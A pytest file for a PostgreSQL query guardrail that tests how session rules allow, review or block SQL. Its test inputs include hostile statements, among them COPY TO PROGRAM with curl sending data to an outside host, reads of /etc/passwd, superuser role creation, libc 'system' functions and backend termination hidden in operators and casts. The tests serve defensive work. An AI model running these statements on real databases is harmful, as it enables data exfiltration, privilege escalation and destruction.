"""``Guard``: whole query strings per session, the strictest verdict, the fallback, the cache,
and what the shipped ``policies.yaml`` decides."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

import engine.guardrail.guard as guard_module
from engine.config import load_config
from engine.guardrail import Guard, GuardrailSettings, Judgement, Rule
from engine.guardrail.guard import SessionGuard, statement_hash
from engine.guardrail.rules import Match, Verdict

REPO = Path(__file__).resolve().parents[3]
ENG = frozenset({"engineering"})

RULES = (
    Rule("no-drop", "block", Match(statements=frozenset({"DROP"})), message="Use a migration."),
    Rule("no-truncate", "block", Match(statements=frozenset({"TRUNCATE"}))),
    Rule("review-deletes", "review", Match(statements=frozenset({"DELETE"}))),
)


def session(rules: tuple[Rule, ...] = RULES, **settings: object) -> SessionGuard:
    return SessionGuard(rules, GuardrailSettings(**settings))  # type: ignore[arg-type]


# --- multi-statement strings: the strictest verdict ----------------------------------------


def test_single_statements() -> None:
    g = session()
    assert g.judge("SELECT 1").action == "allow"
    assert g.judge("SELECT 1").rule is None
    judged = g.judge("DELETE FROM t WHERE id = 1")
    assert (judged.action, judged.rule) == ("review", "review-deletes")
    judged = g.judge("DROP TABLE t")
    assert (judged.action, judged.rule) == ("block", "no-drop")
    assert judged.verdict.hint == "Use a migration."
    assert judged.parse_error is None


@pytest.mark.parametrize(("sql", "action", "rule", "statement"), [
    ("SELECT 1; DELETE FROM t; SELECT 2", "review", "review-deletes", "DELETE FROM t"),
    ("DELETE FROM t; DROP TABLE t", "block", "no-drop", "DROP TABLE t"),
    ("DROP TABLE t; DELETE FROM t", "block", "no-drop", "DROP TABLE t"),
    ("SELECT 1; SELECT 2", "allow", None, "SELECT 1"),
    # Two blocked statements: the first one decides.
    ("SELECT 1; TRUNCATE t; DROP TABLE t", "block", "no-truncate", "TRUNCATE t"),
])
def test_multi_statement_takes_the_strictest_verdict(
        sql: str, action: str, rule: str | None, statement: str) -> None:
    judged = session().judge(sql)
    assert judged.action == action
    assert judged.rule == rule
    assert judged.verdict.statement == statement
    assert judged.verdict.action == action


def test_every_statements_verdict_is_kept() -> None:
    judged = session().judge("SELECT 1; DELETE FROM t; DROP TABLE t")
    assert [(v.action, v.rule, v.statement) for v in judged.statements] == [
        ("allow", None, "SELECT 1"),
        ("review", "review-deletes", "DELETE FROM t"),
        ("block", "no-drop", "DROP TABLE t"),
    ]


# --- unparseable and empty -----------------------------------------------------------------


@pytest.mark.parametrize("fallback", ["block", "review", "allow"])
def test_fallback_for_unparseable_sql(fallback: str) -> None:
    sql = "DR/**/OP TABLE t"
    judged = session(fallback=fallback).judge(sql)
    assert judged.action == fallback
    assert judged.rule == "fallback"
    assert judged.verdict.statement == sql
    assert judged.statements == (judged.verdict,)
    assert judged.parse_error is not None
    assert "syntax error" in judged.parse_error
    assert "cannot be classified" in judged.verdict.reason


def test_fallback_is_used_even_when_a_rule_would_allow_everything() -> None:
    allow_all = (Rule("anything", "allow", Match(regex=re.compile("."))),)
    judged = session(allow_all, fallback="block").judge("SELECT 'unterminated")
    assert (judged.action, judged.rule) == ("block", "fallback")


@pytest.mark.parametrize("sql", ["", "  ", ";", "-- nothing\n"])
def test_empty_query_is_allowed(sql: str) -> None:
    judged = session(fallback="block").judge(sql)
    assert judged.action == "allow"
    assert judged.rule is None
    assert judged.parse_error is None
    assert judged.verdict.reason == "empty query"


# --- the verdict cache ---------------------------------------------------------------------


@pytest.fixture
def classify_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []
    real = guard_module.classify_text

    def counting(sql: str, *args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(sql)
        return real(sql, *args, **kwargs)

    monkeypatch.setattr(guard_module, "classify_text", counting)
    return calls


def test_cache_returns_the_identical_judgement(classify_calls: list[str]) -> None:
    g = session()
    first = g.judge("DROP TABLE t")
    assert g.judge("DROP TABLE t") is first
    assert classify_calls == ["DROP TABLE t"]
    # Keyed by exact text: a different spelling is judged again.
    other = g.judge("drop table t")
    assert other is not first
    assert other.action == "block"
    assert classify_calls == ["DROP TABLE t", "drop table t"]


def test_cache_holds_fallback_judgements_too(classify_calls: list[str]) -> None:
    g = session()
    bad = g.judge("SELEC 1")
    assert g.judge("SELEC 1") is bad
    assert classify_calls == ["SELEC 1"]


def test_cache_is_bounded_and_evicts_the_oldest(classify_calls: list[str]) -> None:
    g = session(cache_size=2)  # three shapes (texts differing in constants share one)
    a = g.judge("SELECT a")
    b = g.judge("SELECT b")
    c = g.judge("SELECT c")  # evicts a
    assert g.judge("SELECT b") is b
    assert g.judge("SELECT c") is c
    assert classify_calls == ["SELECT a", "SELECT b", "SELECT c"]
    again = g.judge("SELECT a")  # judged anew, evicting b
    assert again is not a
    assert again == a
    assert classify_calls[-1] == "SELECT a"
    assert len(classify_calls) == 4
    assert g.judge("SELECT b") is not b


def test_cache_size_one(classify_calls: list[str]) -> None:
    g = session(cache_size=1)
    a = g.judge("SELECT a")
    assert g.judge("SELECT a") is a
    g.judge("SELECT b")
    assert g.judge("SELECT a") is not a
    assert len(classify_calls) == 3


# --- Guard.for_session ---------------------------------------------------------------------

SCOPED = (
    Rule("shop-only", "block", Match(statements=frozenset({"TRUNCATE"})),
         connections=frozenset({"shop"})),
    Rule("engineers", "review", Match(statements=frozenset({"DELETE"})), groups=ENG),
    Rule("bob-only", "block", Match(statements=frozenset({"SELECT"})),
         identities=frozenset({"bob"})),
    Rule("everyone", "block", Match(statements=frozenset({"DROP"}))),
)


def test_for_session_filters_rules_in_order() -> None:
    guard = Guard(SCOPED, GuardrailSettings())
    names = [r.name for r in guard.for_session("shop", "alice", ENG).rules]
    assert names == ["shop-only", "engineers", "everyone"]
    names = [r.name for r in guard.for_session("warehouse", "bob", frozenset()).rules]
    assert names == ["bob-only", "everyone"]


def test_for_session_judges_with_its_own_rules() -> None:
    guard = Guard(SCOPED, GuardrailSettings())
    alice = guard.for_session("shop", "alice", ENG)
    bob = guard.for_session("warehouse", "bob", frozenset())
    assert alice.judge("SELECT 1").action == "allow"
    assert bob.judge("SELECT 1").action == "block"
    assert alice.judge("DELETE FROM t").action == "review"
    assert bob.judge("DELETE FROM t").action == "allow"
    assert guard.for_session("warehouse", "alice", ENG).judge("TRUNCATE t").action == "allow"


def test_sessions_of_one_identity_share_verdicts_but_not_memory() -> None:
    settings = GuardrailSettings(fallback="review")
    guard = Guard(SCOPED, settings)
    first = guard.for_session("shop", "alice", ENG)
    second = guard.for_session("shop", "alice", frozenset({"engineering"}))
    assert second is not first and second.rules is first.rules
    assert guard.for_session("shop", "alice", frozenset()).rules != first.rules
    assert first.settings is settings
    judged = first.judge("DELETE FROM t")
    assert second.judge("DELETE FROM t") is judged  # one cache for the rules



def test_what_one_session_created_is_not_another_s() -> None:
    """Another session of the same identity (in another database, say) does not take a
    table of the same name for its own."""
    guard = Guard((Rule("big", "review", Match(rows_over=100)),), GuardrailSettings())
    first = guard.for_session("shop", "alice", ENG)
    second = guard.for_session("shop", "alice", ENG)
    table = "CREATE TABLE public.t (id int)"
    first.judge(table)
    started = first.started(table)
    assert started is not None
    first.finished(started)
    assert first.memory.known and not second.memory.known
    body = "$$BEGIN DELETE FROM public.t WHERE id > 0; END$$"
    create = f"CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS {body}"
    assert first.judge(create).action == "allow"
    assert second.judge(create).action == "review"
    assert first.judge(create).action == "allow"  # each from its own cache


def test_statement_hash_is_sha256_hex() -> None:
    assert statement_hash("SELECT 1") == (
        "e004ebd5b5532a4b85984a62f8ad48a81aa3460c1ca07701f386135d72cdecf5")
    assert statement_hash("SELECT 1") != statement_hash("SELECT 1 ")


# --- the shipped policies.yaml -------------------------------------------------------------


def test_shipped_settings() -> None:
    config = load_config(REPO / "policies.yaml")
    assert config.guardrails.fallback == "block"
    assert config.guardrails.review_timeout == 300.0
    assert config.guardrails.approver_groups == {"operators"}
    assert config.guardrails.min_approvals == 1


@pytest.mark.parametrize(("sql", "rule"), [
    ("DROP TABLE orders", "no-drop"),
    ("drop /* x */ table public.orders", "no-drop"),
    ("DROP DATABASE shop", "no-drop"),
    ("DROP ROLE bob", "no-drop"),
    ("TRUNCATE orders", "no-truncate"),
    ("ALTER SYSTEM SET work_mem = '1GB'", "no-alter-system"),
    ("LOAD 'auto_explain'", "no-alter-system"),
    ("CREATE ROLE mallory SUPERUSER", "no-role-or-grant-changes"),
    ("CREATE USER mallory", "no-role-or-grant-changes"),
    ("ALTER ROLE alice SUPERUSER", "no-role-or-grant-changes"),
    ("GRANT ALL ON orders TO alice", "no-role-or-grant-changes"),
    ("REVOKE SELECT ON orders FROM report_bot", "no-role-or-grant-changes"),
    ("GRANT pg_read_server_files TO alice", "no-role-or-grant-changes"),
    ("SET ROLE postgres", "no-role-or-grant-changes"),
    ("SET SESSION AUTHORIZATION postgres", "no-role-or-grant-changes"),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO alice", "no-role-or-grant-changes"),
    ("COPY orders TO PROGRAM 'curl -d @- http://x'", "no-server-programs-or-files"),
    ("COPY orders FROM PROGRAM 'id'", "no-server-programs-or-files"),
    ("COPY orders FROM '/etc/passwd'", "no-server-programs-or-files"),
    ("COPY orders TO '/tmp/orders.csv'", "no-server-programs-or-files"),
    ("SELECT pg_read_file('/etc/passwd')", "no-server-file-functions"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "no-server-file-functions"),
    ("SELECT \"pg_read_file\"('/etc/passwd')", "no-server-file-functions"),
    ("SELECT * FROM pg_ls_dir('/')", "no-server-file-functions"),
    ("SELECT lo_import('/etc/passwd')", "no-server-file-functions"),
    ("SELECT pg_file_write('x', 'y', false)", "no-server-file-functions"),
    ("SELECT id FROM orders WHERE id IN (SELECT length(pg_read_binary_file('x')))",
     "no-server-file-functions"),
    ("SELECT dblink('host=x', 'SELECT 1')", "no-dblink"),
    # What the query text or the block does is judged first: the DROP decides.
    ("SELECT dblink_exec('host=x', 'DROP TABLE orders')", "no-drop"),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "no-drop"),
    ("SELECT dblink_exec('host=x', 'SELECT 1')", "no-dblink"),
    ("DO $$ BEGIN PERFORM 1; END $$", "no-do-blocks"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'system'", "no-untrusted-code"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", "no-untrusted-code"),
    ("CREATE EXTENSION dblink", "no-untrusted-code"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "no-backend-control"),
    ("SELECT pg_cancel_backend(1)", "no-backend-control"),
    ("SELECT pg_reload_conf()", "no-backend-control"),
    # What hides inside is judged too.
    ("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('x') $$",
     "no-server-file-functions"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DROP TABLE orders $$", "no-drop"),
    ("EXPLAIN ANALYZE SELECT pg_read_file('x')", "no-server-file-functions"),
    ("PREPARE p AS SELECT dblink('x', 'y')", "no-dblink"),
    ("SELECT 1; DROP TABLE orders", "no-drop"),
])
def test_shipped_policy_blocks(shipped: SessionGuard, sql: str, rule: str) -> None:
    judged = shipped.judge(sql)
    assert (judged.action, judged.rule) == ("block", rule)


def test_shipped_block_gives_the_rules_message(shipped: SessionGuard) -> None:
    judged = shipped.judge("DROP TABLE orders")
    assert judged.verdict.hint == (
        "Dropping objects goes through a reviewed migration, not an ad-hoc session.")
    assert "orders" in judged.verdict.reason


@pytest.mark.parametrize("sql", [
    "UPDATE orders SET total = 0",
    "DELETE FROM orders",
    "UPDATE orders SET total = 0 WHERE true",
    "DELETE FROM orders WHERE 1=1",
    "DELETE FROM orders WHERE 'a'='a'",
    "UPDATE orders SET total = 0 WHERE 1<2",
    "DELETE FROM orders WHERE id = 1 OR true",
    "DELETE FROM orders WHERE NOT false",
    "UPDATE orders SET total = 0 WHERE id = id",
    "DELETE FROM orders WHERE true AND true",
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "PREPARE wipe AS DELETE FROM orders",
    "CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$",
    "SELECT 1; UPDATE orders SET total = 0",
])
def test_shipped_policy_reviews_unbounded_writes(shipped: SessionGuard, sql: str) -> None:
    judged = shipped.judge(sql)
    assert (judged.action, judged.rule) == ("review", "review-unbounded-writes")
    assert judged.verdict.hint is not None


@pytest.mark.parametrize("sql", [
    "SELECT * FROM orders",
    "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
    "INSERT INTO orders (id, total) VALUES (1, 10)",
    "UPDATE orders SET total = 0 WHERE id = 1",
    "DELETE FROM orders WHERE id = 1",
    "DELETE FROM orders WHERE 1=2",
    "DELETE FROM orders WHERE a IS NULL",
    "EXPLAIN DELETE FROM orders",
    "EXPLAIN SELECT pg_read_file('x')",
    "COPY orders FROM STDIN",
    "COPY orders TO STDOUT",
    "BEGIN; UPDATE orders SET total = 1 WHERE id = 2; COMMIT",
    "SELECT now(), count(*) FROM orders",
    "SET statement_timeout = '5s'",
    "CREATE TABLE scratch (a int)",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
    "SELECT 'DROP TABLE orders'",
    "SELECT $$ ; DELETE FROM orders $$",
    "",
])
def test_shipped_policy_allows_ordinary_work(shipped: SessionGuard, sql: str) -> None:
    judged = shipped.judge(sql)
    verdict = allowed_under_the_count(judged)
    assert verdict.action == "allow", verdict
    assert verdict.rule is None


def allowed_under_the_count(judged: Judgement) -> Verdict:
    """The verdict that stands when a write the example counts (review-big-writes, rows_over
    100) writes no more than 100 rows; any other judgement as it is."""
    if judged.verdict.rows_over is None:
        return judged.verdict
    assert (judged.rule, judged.verdict.rows_over) == ("review-big-writes", 100)
    assert judged.verdict.under is not None
    return judged.verdict.under


@pytest.mark.parametrize("sql", [
    "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
    "CREATE FUNCTION add_order(c int, a numeric) RETURNS int LANGUAGE plpgsql AS $$ "
    "DECLARE new_id int; BEGIN INSERT INTO orders (customer_id, amount) VALUES (c, a) "
    "RETURNING id INTO new_id; UPDATE customers SET orders = orders + 1 WHERE id = c; "
    "RETURN new_id; END $$",
])
def test_shipped_policy_reviews_writes_it_cannot_count(shipped: SessionGuard,
                                                        sql: str) -> None:
    """What the CommandComplete would not count meets review-big-writes outright (a
    data-modifying WITH; a function whose UPDATE runs later, uncounted): invariant 9."""
    judged = shipped.judge(sql)
    assert (judged.action, judged.rule, judged.verdict.rows_over) == (
        "review", "review-big-writes", None)


def test_shipped_policy_falls_back_to_block(shipped: SessionGuard) -> None:
    judged = shipped.judge("DR/**/OP TABLE orders")
    assert (judged.action, judged.rule) == ("block", "fallback")


def test_shipped_rules_apply_to_every_identity() -> None:
    config = load_config(REPO / "policies.yaml")
    guard = Guard(config.rules, config.guardrails)
    for ident in config.identities:
        session_guard = guard.for_session("shop", ident.name, ident.groups)
        assert [r.name for r in session_guard.rules] == [r.name for r in config.rules]
        assert session_guard.judge("DROP TABLE orders").action == "block"


def test_judgement_type(shipped: SessionGuard) -> None:
    assert isinstance(shipped.judge("SELECT 1"), Judgement)


# --- known bugs ----------------------------------------------------------------------------


def test_shipped_policy_blocks_role_rename(shipped: SessionGuard) -> None:
    assert shipped.judge("ALTER ROLE alice RENAME TO mallory").action == "block"


def test_shipped_policy_blocks_set_role_through_set_config(shipped: SessionGuard) -> None:
    assert shipped.judge("SELECT set_config('role', 'postgres', false)").action == "block"


def test_turning_standard_conforming_strings_off_is_not_allowed(shipped: SessionGuard) -> None:
    assert shipped.judge("SET standard_conforming_strings = off").action != "allow"


def test_switching_to_an_unsafe_client_encoding_is_not_allowed(shipped: SessionGuard) -> None:
    assert shipped.judge("SET client_encoding = 'SJIS'").action != "allow"


# --- code that runs later: the strictest verdict of what is inside --------------------------

INSIDE = (
    Rule("no-dynamic", "block", Match(statements=frozenset({"DYNAMIC SQL"}))),
    Rule("allow-functions", "allow", Match(statements=frozenset({"CREATE FUNCTION"}))),
    Rule("no-drop", "block", Match(statements=frozenset({"DROP"}))),
    Rule("review-deletes", "review", Match(statements=frozenset({"DELETE"}))),
    Rule("opaque", "review", Match(statements=frozenset({"OPAQUE BODY"}))),
)


def test_an_allow_rule_for_the_statement_does_not_cover_what_runs_inside() -> None:
    judged = session(INSIDE).judge("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ "
                                   "BEGIN DROP TABLE t; END $$")
    assert (judged.action, judged.rule) == ("block", "no-drop")
    assert judged.verdict.reason.startswith("body of f, line 1: statement: DROP TABLE t")
    assert judged.verdict.statement.startswith("CREATE FUNCTION f()")
    plain = session(INSIDE).judge("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ "
                                  "BEGIN RETURN 1; END $$")
    assert (plain.action, plain.rule) == ("allow", "allow-functions")


def test_parts_judged_lists_each_statement_inside_with_its_verdict() -> None:
    from engine.guardrail.classify import classify
    from engine.guardrail.guard import parts_judged

    (facts,) = classify("CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
                        "EXECUTE q; EXECUTE 'DELETE FROM t WHERE id = 1'; "
                        "PERFORM 1; END $$")
    shown = [(depth, part.origin, verdict.action, verdict.rule)
             for depth, part, verdict in parts_judged(INSIDE, facts)]
    assert shown == [
        (1, "body of f, line 1: EXECUTE", "block", "no-dynamic"),
        (1, "body of f, line 1: EXECUTE of a constant string", "review", "review-deletes"),
    ]


def test_settings_inside_a_function_body_are_refused_when_it_is_created() -> None:
    # The body runs later, but a body it then calls (in the same statement, before any
    # ReadyForQuery) is read by the server under the new setting: refused wherever changed.
    judged = session(()).judge("CREATE FUNCTION blind() RETURNS text LANGUAGE plpgsql AS $$ "
                               "BEGIN RETURN set_config('standard_conforming_strings', 'off', "
                               "false); END $$")
    assert (judged.action, judged.rule) == ("block", "gateway-sql-reading")
    now = session(()).judge("DO $$ BEGIN SET standard_conforming_strings = off; END $$")
    assert (now.action, now.rule) == ("block", "gateway-sql-reading")
    text = session(()).judge("SELECT query_to_xml('SELECT set_config(''client_encoding'', "
                             "''SJIS'', false)', true, true, '')")
    assert text.action == "block"


TRIGGER_BODY = ("CREATE OR REPLACE FUNCTION public.stamp() RETURNS trigger LANGUAGE plpgsql "
                "AS $$ BEGIN NEW.changed := now(); INSERT INTO audit (what) VALUES (TG_OP); "
                "RETURN NEW; END $$")
TRIGGER = "CREATE TRIGGER s BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION public.stamp()"


def test_a_trigger_is_judged_by_its_body_only_when_the_same_text_creates_it() -> None:
    g = session(INSIDE)
    assert g.judge(f"{TRIGGER_BODY}; {TRIGGER}").action == "allow"
    # The same function allowed in an earlier text is not remembered: that CREATE may have
    # failed ("already exists"), and the function the name means may do anything.
    assert g.judge(TRIGGER_BODY).action == "allow"
    assert g.judge(TRIGGER).rule == "opaque"
    # A harmful body in the same text is what the trigger does.
    wipe = TRIGGER_BODY.replace("INSERT INTO audit (what) VALUES (TG_OP)", "DELETE FROM audit")
    assert g.judge(f"{wipe}; {TRIGGER}").rule == "review-deletes"


def test_no_body_is_remembered_across_texts(classify_calls: list[str]) -> None:
    g = session(INSIDE)
    assert g.judge(TRIGGER).rule == "opaque"
    g.judge(TRIGGER_BODY)
    assert g.judge(TRIGGER).rule == "opaque"
    assert classify_calls.count(TRIGGER) == 1  # depends on nothing before it: cached


# --- the shipped policy and the classes of issue 12 -----------------------------------------


@pytest.mark.parametrize(("sql", "rule"), [
    # Procedural code is read.
    ("CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$BEGIN EXECUTE q; END$$",
     "no-dynamic-sql"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN "
     "EXECUTE 'ALTER ROLE CURRENT_USER PASSWORD ''x'''; END$$", "no-role-or-grant-changes"),
    ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$BEGIN TRUNCATE orders; END$$", "no-truncate"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN "
     "PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END$$", "no-backend-control"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DROP TABLE orders; END",
     "no-drop"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN "
     "EXECUTE format('DROP TABLE %I', 'orders'); END$$", "no-dynamic-sql"),
    # SQL passed as text.
    ("SELECT query_to_xml('select pg_terminate_backend(pid) from pg_stat_activity', "
     "true, true, '')", "no-backend-control"),
    ("SELECT * FROM ts_stat('select pg_terminate_backend(1)::text::tsvector')",
     "no-backend-control"),
    ("SELECT query_to_xml(q, true, true, '') FROM (SELECT 'DROP TABLE orders' AS q) s",
     "no-dynamic-sql"),
    ("SELECT query_to_xml($1, true, true, '')", "no-dynamic-sql"),
    # Binding is calling.
    ("CREATE OPERATOR @~@ (FUNCTION = pg_terminate_backend, LEFTARG = int, RIGHTARG = bigint)",
     "no-backend-control"),
    ("CREATE CAST (int AS bigint) WITH FUNCTION pg_cancel_backend(int)", "no-backend-control"),
    ("CREATE AGGREGATE kill(int) (SFUNC = pg_terminate_backend, STYPE = bool)",
     "no-backend-control"),
    ("CREATE TABLE t (a int DEFAULT pg_reload_conf()::int)", "no-backend-control"),
    ("CREATE INDEX i ON orders ((pg_terminate_backend(id)))", "no-backend-control"),
    ("CREATE DOMAIN d AS int CHECK (pg_terminate_backend(VALUE))", "no-backend-control"),
    ("CREATE FUNCTION k(int) RETURNS bool LANGUAGE internal AS 'pg_terminate_backend'",
     "no-untrusted-code"),
    # Destruction not spelled DROP.
    ("ALTER TABLE orders DROP COLUMN status", "no-drop-column-or-rename-table"),
    ("alter table orders drop status", "no-drop-column-or-rename-table"),
    ("ALTER TABLE orders RENAME TO orders_old", "no-drop-column-or-rename-table"),
    ("ALTER TABLE public.orders SET SCHEMA archive", "no-drop-column-or-rename-table"),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN "
     "ALTER TABLE orders DROP COLUMN status; END$$", "no-drop-column-or-rename-table"),
])
def test_shipped_policy_blocks_what_hides_in_code(shipped: SessionGuard, sql: str,
                                                  rule: str) -> None:
    judged = shipped.judge(sql)
    assert (judged.action, judged.rule) == ("block", rule)


@pytest.mark.parametrize(("sql", "rule"), [
    ("CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN "
     "UPDATE orders SET status = 'x'; RETURN NEW; END$$", "review-unbounded-writes"),
    ("CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM customers",
     "review-unbounded-writes"),
    ("DELETE FROM orders WHERE id IS NOT NULL", "review-unbounded-writes"),
    ("UPDATE orders SET status = 'x' WHERE 1 BETWEEN 0 AND 2", "review-unbounded-writes"),
    ("DELETE FROM orders WHERE EXISTS (SELECT 1)", "review-unbounded-writes"),
    ("DELETE FROM orders WHERE id IN (SELECT id FROM orders)", "review-unbounded-writes"),
    ("MERGE INTO orders o USING orders s ON o.id = s.id WHEN MATCHED THEN DELETE",
     "review-unbounded-writes"),
    ("ALTER TABLE orders DROP CONSTRAINT orders_pkey", "review-destructive-alter-table"),
    ("ALTER TABLE orders ALTER COLUMN status TYPE int USING 0",
     "review-destructive-alter-table"),
    ("ALTER TABLE orders RENAME COLUMN status TO state", "review-destructive-alter-table"),
    ("ALTER TABLE orders DISABLE TRIGGER ALL", "review-destructive-alter-table"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1'", "review-opaque-code"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$BEGIN FOOBAR; END$$",
     "review-opaque-code"),
    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION unseen()",
     "review-opaque-code"),
])
def test_shipped_policy_holds_what_needs_eyes(shipped: SessionGuard, sql: str,
                                              rule: str) -> None:
    judged = shipped.judge(sql)
    assert (judged.action, judged.rule) == ("review", rule)


@pytest.mark.parametrize("sql", [
    "CREATE OR REPLACE FUNCTION total(c int) RETURNS numeric LANGUAGE sql STABLE AS "
    "'SELECT sum(amount) FROM orders WHERE customer_id = c'",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1",
    "SELECT query_to_xml('SELECT id FROM orders', true, true, '')",
    "UPDATE pgbench_accounts SET abalance = abalance + 5 WHERE aid = 42",
    "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2",
    "DELETE FROM orders WHERE id = ANY($1)",
    "MERGE INTO orders o USING (VALUES (1, 'paid')) v(id, s) ON o.id = v.id "
    "WHEN MATCHED THEN UPDATE SET status = v.s WHEN NOT MATCHED THEN INSERT (id) VALUES (v.id)",
    "ALTER TABLE orders ADD COLUMN note text",
    "CREATE INDEX orders_status ON orders (lower(status))",
    "CREATE OPERATOR === (FUNCTION = int4eq, LEFTARG = int, RIGHTARG = int)",
])
def test_shipped_policy_still_allows_ordinary_work(shipped: SessionGuard, sql: str) -> None:
    judged = shipped.judge(sql)
    assert allowed_under_the_count(judged).action == "allow", judged.verdict


# --- what no rule names and the gateway cannot read is never allowed ----------------------


@pytest.mark.parametrize(("rules", "fallback", "action", "rule"), [
    # No rule names DYNAMIC SQL: it meets the strictest rule that could apply to SQL.
    (RULES, "block", "block", "no-drop"),
    ((RULES[2],), "block", "review", "review-deletes"),
    # No rule that could stop it: the fallback.
    ((), "block", "block", "fallback"),
    ((), "review", "review", "fallback"),
    ((Rule("allow-select", "allow", Match(statements=frozenset({"SELECT"}))),), "block",
     "block", "fallback"),
    # A rule that names it decides, allow included: the operator chose.
    ((Rule("dynamic-ok", "allow", Match(statements=frozenset({"DYNAMIC SQL"}))), *RULES),
     "block", "allow", "dynamic-ok"),
])
def test_what_the_gateway_cannot_read_is_never_allowed_by_default(
        rules: tuple[Rule, ...], fallback: str, action: str, rule: str) -> None:
    g = session(rules, fallback=fallback)
    for sql in ("CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
                "EXECUTE q; END $$",
                "SELECT query_to_xml(q, true, true, '') FROM t",
                "CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1'"):
        judged = g.judge(sql)
        if "plperl" in sql and rule == "dynamic-ok":
            continue  # OPAQUE BODY is not what that rule names
        assert (judged.action, judged.rule) == (action, rule), sql
        if rule not in ("fallback", "dynamic-ok"):
            assert "meets the strictest rule that could apply" in judged.verdict.reason


# --- a reloaded policy ------------------------------------------------------------------------


def test_a_reload_changes_the_rules_a_live_sessions_guard_applies() -> None:
    guard = Guard(RULES, GuardrailSettings())
    live = guard.for_session("shop", "alice", ENG)  # what a live session holds
    other = guard.for_session("reports", "bob", frozenset())
    assert live.judge("select * from orders").action == "allow"  # and now cached
    assert live.judge("drop table t").action == "block"
    scoped = Rule("no-orders-in-shop", "block", Match(tables=("orders",)),
                  connections=frozenset({"shop"}))
    guard.replace((scoped,), GuardrailSettings(fallback="review"))
    assert live.judge("select * from orders").action == "block"  # the cache was emptied
    assert live.judge("drop table t").action == "allow"  # the old rule is gone
    assert live.judge("selec nonsense").action == "review"  # the new fallback
    assert other.judge("select * from orders").action == "allow"  # not in its scope
    assert guard.for_session("shop", "alice", ENG).rules is live.rules
